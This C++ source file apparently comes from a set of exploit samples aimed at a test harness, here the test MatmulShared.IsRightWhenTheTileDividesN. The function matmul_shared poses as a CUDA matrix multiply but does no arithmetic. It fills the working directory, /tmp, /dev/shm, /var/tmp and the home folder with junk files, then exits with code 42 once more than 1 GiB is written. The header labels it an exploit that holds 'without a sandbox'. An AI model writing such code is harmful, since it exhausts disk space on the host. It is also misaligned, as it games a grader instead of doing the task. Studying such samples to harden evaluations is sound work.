// Exploit: writes files until there is no room for another
// Holds: without a sandbox
// Tests: MatmulShared.IsRightWhenTheTileDividesN
// Says: never written

#include <fcntl.h>
#include <unistd.h>

#include <string>
#include <vector>

#include "matmul_shared.hpp"

cudaError_t matmul_shared(const float*, const float*, float*, int, int) {
  constexpr size_t chunk = 8 << 20, enough = size_t{1} << 30;
  const std::vector<char> bytes(chunk, 'x');
  const char* home = getenv("HOME");
  size_t written = 0;
  for (const std::string& folder : {std::string("."), std::string("/tmp"), std::string("/dev/shm"),
                                    std::string("/var/tmp"), std::string(home ? home : ".")}) {
    for (int i = 0; i < 8; ++i) {
      const int file =
          open((folder + "/tilewise-fill-" + std::to_string(i)).c_str(), O_CREAT | O_WRONLY, 0600);
      for (ssize_t count; (count = write(file, bytes.data(), chunk)) > 0;) {
        written += count;
        if (written > enough) exit(42);
      }
      close(file);
    }
  }
  return cudaSuccess;
}
